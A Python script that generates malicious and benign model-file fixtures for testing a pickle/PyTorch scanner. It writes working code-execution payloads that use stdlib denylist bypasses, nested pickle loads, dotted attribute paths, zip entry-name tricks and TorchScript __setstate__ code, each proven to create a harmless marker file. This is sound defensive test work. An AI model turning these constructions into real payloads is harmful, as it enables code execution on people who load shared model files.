#!/usr/bin/python3
"""Writes the scanner's fixtures (java/core/src/test/resources/fixtures/scan/) and scan-expected.json.

One malicious file or more per technique class of issue 10, each PROVEN to run code under the
reference PyTorch 1.13 / Python 3.11: the generator loads it in a subprocess (pickle.load,
torch.load(weights_only=False), torch.jit.load or the lite interpreter) in an empty temporary
directory and checks that the payload created a harmless marker file there ("torch4j_marker",
a relative path, so nothing outside that directory is touched). Each technique has benign
look-alikes that load without creating the marker. scan-expected.json records, per file: the
technique class, whether the payload fired, the verdict the scanner must give, and for
dangerous files the global and the chain it must name.

Run: /usr/bin/python3 java/core/src/test/python/gen_scan_fixtures.py
"""
import collections
import enum
import functools
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tempfile
import textwrap
import zipfile
from typing import Tuple

import numpy
import torch

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "resources", "fixtures", "scan")
MARKER = "torch4j_marker"
CMD = "touch " + MARKER

# A third-party package for the benign look-alikes (a model's own classes, an HF-like enum and
# training arguments, a learner holding a partial): importable only while proving they load.
THIRD_PARTY = {
    "acme_models/__init__.py": "",
    "acme_models/nets.py": textwrap.dedent("""
        import dataclasses, enum, functools
        import torch

        class TinyNet(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.fc = torch.nn.Linear(3, 2)

        class IntervalStrategy(enum.Enum):
            NO = "no"
            STEPS = "steps"

        @dataclasses.dataclass
        class TrainingArguments:
            output_dir: str = "out"
            evaluation_strategy: IntervalStrategy = IntervalStrategy.STEPS

        class Learner:
            def __init__(self, model, opt_func):
                self.model = model
                self.opt_func = opt_func
        """),
}

EXPECTED = {}


# ---------------------------------------------------------------------------- pickle building

def op_str(s):
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def stack_global(module, name):
    return op_str(module) + op_str(name) + b"\x93"


def global_(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(callee, *args):
    """callee(*args) as REDUCE; args are already-encoded pickle fragments."""
    return callee + b"(" + b"".join(args) + b"tR"


def proto4(body):
    return b"\x80\x04" + body + b"."


def proto2(body):
    return b"\x80\x02" + body + b"."


def binbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


class Reduce:
    """An object that pickles as fn(*args): how published exploits are usually written."""

    def __init__(self, fn, *args):
        self.fn = fn
        self.args = args

    def __reduce__(self):
        return self.fn, self.args


# ---------------------------------------------------------------------------- proof

LOADERS = {
    "pickle": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
    "torch": "import torch,sys; torch.load(sys.argv[1], weights_only=False) if 'weights_only' in torch.load.__code__.co_varnames else torch.load(sys.argv[1])",
    "jit": "import torch,sys; torch.jit.load(sys.argv[1])",
    "lite": "import torch,sys; from torch.jit.mobile import _load_for_lite_interpreter as l; l(sys.argv[1])",
}


def fires(path, loader, extra_path=None):
    """Loads path in a fresh interpreter inside an empty directory; True when the marker appeared."""
    with tempfile.TemporaryDirectory() as d:
        env = dict(os.environ)
        env["PYTHONPATH"] = extra_path or ""
        subprocess.run([sys.executable, "-c", LOADERS[loader], os.path.abspath(path)], cwd=d, env=env,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
        return any(n.startswith(MARKER) for n in os.listdir(d))


def record(name, technique, loader, verdict, global_name=None, chain=None, third_party=None):
    path = os.path.join(OUT, name)
    fired = fires(path, loader, third_party)
    if verdict == "dangerous" and not fired:
        raise SystemExit(f"{name}: the payload did not fire under {loader}: not a valid malicious fixture")
    if verdict != "dangerous" and fired:
        raise SystemExit(f"{name}: a benign look-alike created the marker")
    EXPECTED[name] = {"technique": technique, "loader": loader, "fires": fired, "verdict": verdict,
                      "global": global_name, "chain": chain or []}


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def torch_save(name, obj, zip_format=True):
    torch.save(obj, os.path.join(OUT, name), _use_new_zipfile_serialization=zip_format)


# ---------------------------------------------------------------------------- the techniques

def class1_stdlib_gaps():
    t = "1-stdlib-denylist-gaps"
    write("c1_os_spawnlp.pkl", pickle.dumps(Reduce(os.spawnlp, os.P_WAIT, "touch", "touch", MARKER), protocol=2))
    record("c1_os_spawnlp.pkl", t, "pickle", "dangerous", "os.spawnlp")
    import uuid
    write("c1_uuid_command.pkl", pickle.dumps(Reduce(uuid._get_command_stdout, "touch", MARKER), protocol=4))
    record("c1_uuid_command.pkl", t, "pickle", "dangerous", "uuid._get_command_stdout")
    import logging.config
    config = {"version": 1, "handlers": {"h": {"()": "os.system", "command": CMD}}}
    write("c1_logging_dictconfig.pkl", pickle.dumps(Reduce(logging.config.dictConfig, config), protocol=4))
    record("c1_logging_dictconfig.pkl", t, "pickle", "dangerous", "logging.config.dictConfig")
    import typing
    ref = call(stack_global("typing", "ForwardRef"), op_str(f"__import__('os').system('{CMD}')"))
    write("c1_typing_eval.pkl", proto4(call(stack_global("typing", "_eval_type"), ref, b"}", b"}")))
    record("c1_typing_eval.pkl", t, "pickle", "dangerous", "typing._eval_type")
    import pydoc
    loc = call(stack_global("pydoc", "locate"), op_str("os.system"))
    write("c1_pydoc_locate.pkl", proto4(loc + b"(" + op_str(CMD) + b"tR"))
    record("c1_pydoc_locate.pkl", t, "pickle", "dangerous", "pydoc.locate")


def class2_file_writes():
    t = "2-file-writing-calls"
    path = call(stack_global("pathlib", "PosixPath"), op_str(MARKER))
    write("c2_path_write_text.pkl", proto4(call(stack_global("pathlib", "Path.write_text"), path, op_str("x"))))
    record("c2_path_write_text.pkl", t, "pickle", "dangerous", "pathlib.Path.write_text")
    getter = call(stack_global("builtins", "getattr"), stack_global("pathlib", "Path"), op_str("write_bytes"))
    write("c2_path_write_bytes_getattr.pkl", proto4(getter + b"(" + path + binbytes(b"x") + b"tR"))
    record("c2_path_write_bytes_getattr.pkl", t, "pickle", "dangerous", "pathlib.Path.write_bytes")
    import codecs
    write("c2_codecs_open.pkl", pickle.dumps(Reduce(codecs.open, MARKER, "w"), protocol=2))
    record("c2_codecs_open.pkl", t, "pickle", "dangerous", "codecs.open")
    write("c2_zipfile_writer.pkl", pickle.dumps(Reduce(zipfile.ZipFile, MARKER, "w"), protocol=4))
    record("c2_zipfile_writer.pkl", t, "pickle", "dangerous", "zipfile.ZipFile")
    write("c2_torch_save.pkl", pickle.dumps(Reduce(torch.save, {"a": 1}, MARKER), protocol=2))
    record("c2_torch_save.pkl", t, "pickle", "dangerous", "torch.serialization.save")
    write("c2_numpy_save.pkl", pickle.dumps(Reduce(numpy.save, MARKER, numpy.zeros(2)), protocol=2))
    record("c2_numpy_save.pkl", t, "pickle", "dangerous", "numpy.save")
    write("c2_torch_from_file.pkl", proto4(call(stack_global("torch", "from_file"), op_str(MARKER), b"\x88", b"K\x01")))
    record("c2_torch_from_file.pkl", t, "pickle", "dangerous", "torch.from_file")


def class3_object_returning_helpers():
    t = "3-dotted-import-helpers-and-fx"
    fn = call(stack_global("torch._utils", "_import_dotted_name"), op_str("os.system"))
    write("c3_import_dotted_name.pkl", proto4(fn + b"(" + op_str(CMD) + b"tR"))
    record("c3_import_dotted_name.pkl", t, "pickle", "dangerous", "torch._utils._import_dotted_name")
    body = b"}" + op_str("_code") + op_str("x = 1\n") + b"s"
    src = f"import os\nos.system('{CMD}')\n"
    write("c3_fx_reduce_graph_module.pkl", proto4(call(stack_global("torch.fx.graph_module", "reduce_graph_module"), body, op_str(src))))
    record("c3_fx_reduce_graph_module.pkl", t, "pickle", "dangerous", "torch.fx.graph_module.reduce_graph_module")


def class4_nested_payloads():
    t = "4-nested-payloads"
    inner = pickle.dumps(Reduce(os.system, CMD), protocol=2)
    write("c4_load_from_bytes.pkl", proto4(call(stack_global("torch.storage", "_load_from_bytes"), binbytes(inner))))
    record("c4_load_from_bytes.pkl", t, "pickle", "dangerous", "posix.system", ["torch.storage._load_from_bytes payload"])
    latin = inner.decode("latin1")
    encoded = call(global_("_codecs", "encode"), op_str(latin), op_str("latin1"))
    write("c4_load_from_bytes_codecs.pkl", proto2(call(global_("torch.storage", "_load_from_bytes"), encoded)))
    record("c4_load_from_bytes_codecs.pkl", t, "pickle", "dangerous", "posix.system", ["torch.storage._load_from_bytes payload"])
    write("c4_pickle_loads.pkl", proto4(call(stack_global("pickle", "loads"), binbytes(inner))))
    record("c4_pickle_loads.pkl", t, "pickle", "dangerous", "posix.system", ["pickle.loads payload"])
    bio = call(stack_global("io", "BytesIO"), binbytes(inner))
    write("c4_torch_load_bytesio.pkl", proto4(call(stack_global("torch", "load"), bio)))
    record("c4_torch_load_bytesio.pkl", t, "pickle", "dangerous", "posix.system", ["torch.load payload"])
    import base64
    computed = call(stack_global("base64", "b64decode"), op_str(base64.b64encode(inner).decode()))
    write("c4_pickle_loads_computed.pkl", proto4(call(stack_global("_pickle", "loads"), computed)))
    record("c4_pickle_loads_computed.pkl", t, "pickle", "dangerous", "_pickle.loads")
    # Inside a real torch.save archive: data.pkl hands the payload to _load_from_bytes.
    torch_save("c4_zip_nested.pt", {"weights": torch.zeros(2), "extra": Reduce(torch.storage._load_from_bytes, inner)})
    record("c4_zip_nested.pt", t, "torch", "dangerous", "posix.system", ["c4_zip_nested/data.pkl", "torch.storage._load_from_bytes payload"])


def class5_dotted_paths():
    t = "5-dotted-attribute-paths"
    write("c5_torch_os_system.pkl", proto4(call(stack_global("torch", "os.system"), op_str(CMD))))
    record("c5_torch_os_system.pkl", t, "pickle", "dangerous", "torch.os.system")
    os_module = call(stack_global("collections", "_sys.modules.get"), op_str("os"))
    system = call(stack_global("builtins", "getattr"), os_module, op_str("system"))
    write("c5_collections_dotted.pkl", proto4(call(system, op_str(CMD))))
    record("c5_collections_dotted.pkl", t, "pickle", "dangerous", "collections._sys.modules.get")
    # Protocol 2 header, then a PROTO 4 opcode mid-stream: dotted GLOBAL names resolve from there on.
    body = b"\x80\x02" + b"N0" + b"\x80\x04" + call(global_("torch", "serialization.os.system"), op_str(CMD)) + b"."
    write("c5_proto_midstream.pkl", body)
    record("c5_proto_midstream.pkl", t, "pickle", "dangerous", "torch.serialization.os.system")


def class6_zip_structure():
    t = "6-zip-entry-names"
    evil = pickle.dumps(Reduce(os.system, CMD), protocol=2)
    torch_save("_benign.pt", {"w": torch.ones(2)})
    src = zipfile.ZipFile(os.path.join(OUT, "_benign.pt"))
    entries = [(i.filename, src.read(i.filename)) for i in src.infolist()]
    root = entries[0][0].split("/")[0]
    with zipfile.ZipFile(os.path.join(OUT, "c6_case_data_pkl.pt"), "w", zipfile.ZIP_STORED) as z:
        for n, b in entries:
            if n == root + "/data.pkl":
                z.writestr(root + "/DATA.PKL", evil)
            else:
                z.writestr(n, b)
    record("c6_case_data_pkl.pt", t, "torch", "dangerous", "posix.system", [root + "/DATA.PKL"])
    for order in ("evil-first", "evil-last"):
        name = "c6_duplicate_data_pkl.pt"
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with zipfile.ZipFile(os.path.join(OUT, name), "w", zipfile.ZIP_STORED) as z:
                for n, b in entries:
                    if n == root + "/data.pkl":
                        pair = [evil, b] if order == "evil-first" else [b, evil]
                        z.writestr(n, pair[0])
                        z.writestr(n, pair[1])
                    else:
                        z.writestr(n, b)
        if fires(os.path.join(OUT, name), "torch"):
            break
    record("c6_duplicate_data_pkl.pt", t, "torch", "dangerous", "posix.system", [root + "/data.pkl"])
    os.remove(os.path.join(OUT, "_benign.pt"))


class SetStateOps(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.zeros(1)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self):
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]):
        # The result is used: TorchScript drops calls whose results are not.
        self.w = state[0] + torch.from_file("torch4j_marker", True, 1)
        self.training = state[1]


class SetStateSave(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.zeros(1)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self):
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]):
        self.w = state[0]
        self.training = state[1]
        torch.save(self.w, "torch4j_marker")


def class7_torchscript():
    t = "7-torchscript-code"
    m = torch.jit.script(SetStateOps())
    m.save(os.path.join(OUT, "c7_setstate_from_file.pt"))
    record("c7_setstate_from_file.pt", t, "jit", "dangerous", "aten::from_file", ["c7_setstate_from_file/code/__torch__.py"])
    try:
        s = torch.jit.script(SetStateSave())
        s.save(os.path.join(OUT, "c7_setstate_save.pt"))
        record("c7_setstate_save.pt", t, "jit", "dangerous", "aten::save", ["c7_setstate_save/code/__torch__.py"])
    except Exception as e:  # torch.save is not scriptable in some versions
        print("skipping c7_setstate_save.pt:", e)
    m._save_for_lite_interpreter(os.path.join(OUT, "c7_mobile_from_file.ptl"))
    fired = fires(os.path.join(OUT, "c7_mobile_from_file.ptl"), "lite")
    EXPECTED["c7_mobile_from_file.ptl"] = {"technique": t, "loader": "lite", "fires": fired, "verdict": "dangerous",
                                           "global": "aten::from_file", "chain": ["c7_mobile_from_file/bytecode.pkl"]}


class Plain(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(2, 2)

    def forward(self, x):
        return self.fc(x)


def benign(pkg_dir):
    sys.path.insert(0, pkg_dir)
    import acme_models.nets as nets
    t = "benign"
    write("ok_partial_harmless.pkl", pickle.dumps(functools.partial(collections.OrderedDict, a=1), protocol=4))
    record("ok_partial_harmless.pkl", t, "pickle", "clean")
    write("ok_partial_torch_class.pkl", pickle.dumps(functools.partial(torch.optim.SGD, lr=0.1), protocol=4))
    record("ok_partial_torch_class.pkl", t, "pickle", "unknown")  # default-deny: not on the vetted list
    write("ok_enum_stdlib.pkl", pickle.dumps({"status": __import__("http").HTTPStatus.OK}, protocol=4))
    record("ok_enum_stdlib.pkl", t, "pickle", "unknown")  # default-deny: not on the vetted list
    torch_save("ok_training_args.bin", nets.TrainingArguments())
    record("ok_training_args.bin", t, "torch", "unknown", third_party=pkg_dir)
    torch_save("ok_whole_module_subclass.pt", nets.TinyNet())
    record("ok_whole_module_subclass.pt", t, "torch", "unknown", third_party=pkg_dir)
    learner = nets.Learner(nets.TinyNet(), functools.partial(torch.optim.Adam, lr=1e-3))
    torch_save("ok_learner_partial.pkl", learner)
    record("ok_learner_partial.pkl", t, "torch", "unknown", third_party=pkg_dir)
    import argparse
    ckpt = {"state_dict": Plain().state_dict(), "epoch": 3, "hyper_parameters": {"lr": 0.1, "args": argparse.Namespace(depth=4)},
            "optimizer_states": [torch.optim.Adam(Plain().parameters()).state_dict()], "pytorch-lightning_version": "1.9.0"}
    torch_save("ok_lightning_like.ckpt", ckpt)
    record("ok_lightning_like.ckpt", t, "torch", "clean")
    torch_save("ok_numpy_in_torch.pt", {"a": numpy.arange(6).reshape(2, 3), "s": numpy.float64(2.5), "d": numpy.dtype("int16")})
    record("ok_numpy_in_torch.pt", t, "torch", "clean")
    torch_save("ok_whole_plain_module_legacy.pt", torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU()), zip_format=False)
    record("ok_whole_plain_module_legacy.pt", t, "torch", "unknown")  # default-deny: not on the vetted list
    write("ok_tensor_plain_pickle.pkl", pickle.dumps({"t": torch.arange(4)}, protocol=2))
    record("ok_tensor_plain_pickle.pkl", t, "pickle", "clean")
    write("ok_tensor_plain_pickle_p4.pkl", pickle.dumps({"t": torch.arange(4)}, protocol=4))
    record("ok_tensor_plain_pickle_p4.pkl", t, "pickle", "clean")
    torch.jit.script(Plain()).save(os.path.join(OUT, "ok_scripted.pt"))
    record("ok_scripted.pt", t, "jit", "clean")
    torch.jit.script(Plain())._save_for_lite_interpreter(os.path.join(OUT, "ok_scripted.ptl"))
    record("ok_scripted.ptl", t, "lite", "clean")


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))
    with tempfile.TemporaryDirectory() as pkg_dir:
        for rel, text in THIRD_PARTY.items():
            os.makedirs(os.path.join(pkg_dir, os.path.dirname(rel)), exist_ok=True)
            with open(os.path.join(pkg_dir, rel), "w") as f:
                f.write(text)
        class1_stdlib_gaps()
        class2_file_writes()
        class3_object_returning_helpers()
        class4_nested_payloads()
        class5_dotted_paths()
        class6_zip_structure()
        class7_torchscript()
        benign(pkg_dir)
    with open(os.path.join(OUT, "scan-expected.json"), "w") as f:
        json.dump(EXPECTED, f, indent=1, sort_keys=True)
        f.write("\n")
    fired = sum(1 for v in EXPECTED.values() if v["fires"])
    print(f"{len(EXPECTED)} fixtures, {fired} proven to run code")


if __name__ == "__main__":
    main()
